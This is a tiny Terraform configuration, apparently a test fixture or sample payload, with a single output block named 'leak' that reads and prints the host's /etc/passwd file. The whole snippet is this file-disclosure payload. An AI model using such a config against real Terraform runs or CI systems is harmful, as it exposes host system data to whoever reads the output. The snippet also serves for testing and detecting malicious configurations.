output "leak" {
  value = file("/etc/passwd")
}
